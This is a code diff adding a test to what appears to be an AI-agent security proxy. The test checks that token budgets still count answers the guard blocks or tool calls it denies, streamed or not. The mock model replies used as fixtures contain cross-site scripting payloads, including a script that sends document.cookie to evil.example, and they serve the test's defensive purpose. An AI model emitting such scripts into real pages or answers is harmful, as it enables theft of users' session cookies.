@@ -668,6 +668,72 @@ describe("budgets through the proxy", () => {
       await server.close();
     }
   });
+
+  it("counts the tokens of an answer it blocks or refuses, streamed or not: the upstream spent them", async () => {
+    const budgeted = await testInstance(
+      {
+        budgets: [{ name: "daily", per: "key", period: "day", tokens: 100 }],
+        tools: [{ name: "wire_money", allow: { roles: ["finance"] } }],
+      },
+      { AGENTWALL_UPSTREAM_URL: `http://127.0.0.1:${port}/v1`, AGENTWALL_UPSTREAM_KEY: UPSTREAM_KEY },
+    );
+    const server = await buildServer(budgeted, { logger: pino({ level: "silent" }) });
+    try {
+      const key = (await budgeted.apiKeys.create({ owner: "dave", name: "b", roles: ["user"], creator: "test" })).key;
+      const send = () =>
+        server.inject({
+          method: "POST",
+          url: "/v1/chat/completions",
+          headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
+          payload: JSON.stringify({ ...hello, max_tokens: 20 }),
+        });
+      const usage = { prompt_tokens: 12, completion_tokens: 5, total_tokens: 17 };
+      const unsafe = { role: "assistant", content: "Click <script>steal(document.cookie)</script>" };
+      const denied = {
+        role: "assistant",
+        content: null,
+        tool_calls: [{ id: "c1", type: "function", function: { name: "wire_money", arguments: "{}" } }],
+      };
+      answers.length = 0;
+      received.length = 0;
+      for (let i = 0; i < 8; i++)
+        answers.push({ choices: [{ index: 0, message: i % 2 === 0 ? unsafe : denied, finish_reason: "stop" }], usage });
+      const codes: string[] = [];
+      for (let i = 0; i < 8; i++) codes.push(code(await send()));
+      // 17 tokens each were used upstream: after five the next estimate (about 32) no longer fits.
+      assert.deepEqual(codes.slice(0, 5), [
+        "ERR_GUARD_BLOCKED",
+        "ERR_TOOL_DENIED",
+        "ERR_GUARD_BLOCKED",
+        "ERR_TOOL_DENIED",
+        "ERR_GUARD_BLOCKED",
+      ]);
+      assert.deepEqual(codes.slice(5), ["ERR_BUDGET_EXHAUSTED", "ERR_BUDGET_EXHAUSTED", "ERR_BUDGET_EXHAUSTED"]);
+      assert.equal(received.length, 5);
+
+      // A stream the guard cuts carries no usage: its reservation (about 32 tokens) stands.
+      const key2 = (await budgeted.apiKeys.create({ owner: "erin", name: "b", roles: ["user"], creator: "test" })).key;
+      const stream = () =>
+        server.inject({
+          method: "POST",
+          url: "/v1/chat/completions",
+          headers: { authorization: `Bearer ${key2}`, "content-type": "application/json" },
+          payload: JSON.stringify({ ...hello, max_tokens: 20, stream: true }),
+        });
+      const cut = textStream('Sure. <script>fetch("https://evil.example/?c="+document.cookie)</script> done', 7);
+      for (let i = 0; i < 3; i++) {
+        streams.push(cut);
+        const res = await stream();
+        assert.match(res.body, /ERR_GUARD_BLOCKED/);
+      }
+      streams.push(cut);
+      assert.equal(code(await stream()), "ERR_BUDGET_EXHAUSTED");
+      streams.length = 0;
+    } finally {
+      answers.length = 0;
+      await server.close();
+    }
+  });
 });
 
 describe("GET /metrics", () => {
